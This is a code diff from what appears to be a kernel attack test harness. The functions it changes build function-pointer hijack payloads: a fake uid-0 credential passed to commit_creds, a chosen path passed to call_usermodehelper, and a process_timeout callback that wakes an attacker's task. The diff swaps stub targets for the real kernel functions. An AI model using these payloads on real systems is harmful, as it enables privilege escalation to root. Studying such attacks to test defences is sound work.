@@ -205,22 +205,24 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 		th_intent.target = "ring_force_close";
 		break;
 	case TH_PAYLOAD_FUNC_PTR_CLASS: {
-		struct atk_cred fake = { .usage = TH_FAKE_CRED_USAGE, .uid = 0, .gid = 0, .euid = 0 };
+		/* The 16 bytes of a cred that fit in name (layout.h atk_cred:
+		 * usage, uid, gid, suid; euid lies at +20, in the timer). */
+		struct atk_cred fake = { .usage = TH_FAKE_CRED_USAGE, .uid = 0, .gid = 0, .suid = 0 };
 
-		set_function(plan, (uintptr_t)&commit_creds_stub, "commit_creds_stub");
-		plant(plan, &fake, sizeof(fake), "a fake cred (uid 0)");
-		th_intent.target = "commit_creds_stub";
+		set_function(plan, (uintptr_t)&commit_creds, "commit_creds");
+		plant(plan, &fake, sizeof(fake), "a fake cred (usage 0x1337, uid 0)");
+		th_intent.target = "commit_creds";
 		th_intent.kind = TH_INTENT_CRED;
 		th_intent.cred.usage = fake.usage;
 		th_intent.cred.uid = fake.uid;
 		th_intent.cred.gid = fake.gid;
-		th_intent.cred.euid = fake.euid;
+		th_intent.cred.suid = fake.suid;
 		break;
 	}
 	case TH_PAYLOAD_FUNC_OTHER_PROTO:
-		set_function(plan, (uintptr_t)&call_usermodehelper_stub, "call_usermodehelper_stub");
+		set_function(plan, (uintptr_t)&call_usermodehelper, "call_usermodehelper");
 		plant(plan, TH_CHOSEN_PATH, sizeof(TH_CHOSEN_PATH), "\"" TH_CHOSEN_PATH "\"");
-		th_intent.target = "call_usermodehelper_stub";
+		th_intent.target = "call_usermodehelper";
 		th_intent.kind = TH_INTENT_STRING;
 		snprintf(th_intent.string, sizeof(th_intent.string), "%s", TH_CHOSEN_PATH);
 		break;
@@ -250,22 +252,35 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 	}
 #endif
 		break;
-	case TH_PAYLOAD_FUNC_FOREIGN_CALLBACK: {
-		/* What from_timer() in deferred_timer_fn() will read as its
-		 * func and data: the 16 bytes in front of the ring's timer, its
-		 * name. Both calls are type-correct: the callback has the call
-		 * site's type, write_cr4 has the type of the callback's own call. */
-		struct { uintptr_t func; unsigned long data; } call = {
-			code_addr_write_cr4(), TH_CR4_CHOSEN
-		};
+	case TH_PAYLOAD_FUNC_FOREIGN_CALLBACK:
+		/*
+		 * process_timeout (kernel/time/timer.c), the timer callback of
+		 * schedule_timeout(): it has the call site's type on every
+		 * variant, and wakes a task the attacker names. On the 4.14
+		 * layout it wakes the task in .data (the rc3 tree had not
+		 * converted it); on 4.15 it wakes from_timer()'s process_timer
+		 * ->task, the word right after the timer (the ring's owner_uid
+		 * and closed). The attacker names its own sleeping task.
+		 */
+		set_function(plan, (uintptr_t)&process_timeout, "process_timeout");
+#if TH_ATK_HAS_DATA
+		set_data(plan, (unsigned long)(uintptr_t)&attacker_task, "the attacker's task");
+#else
+		{
+			size_t len = strlen(plan->what);
+			uintptr_t task = (uintptr_t)&attacker_task;
 
-		set_function(plan, (uintptr_t)&deferred_timer_fn, "deferred_timer_fn");
-		plant(plan, &call, sizeof(call), "a deferred call: func = write_cr4, data = 0x407f0");
-		th_intent.target = "write_cr4";
-		th_intent.kind = TH_INTENT_VALUE;
-		th_intent.value = TH_CR4_CHOSEN;
+			memcpy((char *)&plan->img + ATK_OFF_TIMER + sizeof(atk_timer), &task, sizeof(task));
+			plan->reach = ATK_OFF_TIMER + sizeof(atk_timer) + sizeof(task);
+			plan->sets_after = 1;
+			snprintf(plan->what + len, sizeof(plan->what) - len,
+				 ", the word after the timer = the attacker's task (0x%lx)", (unsigned long)task);
+		}
+#endif
+		th_intent.target = "process_timeout";
+		th_intent.kind = TH_INTENT_TASK;
+		th_intent.value = (uintptr_t)&attacker_task;
 		break;
-	}
 	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
 		/* From the symbol table: taking its address in C would put it in
 		 * the jump table. */
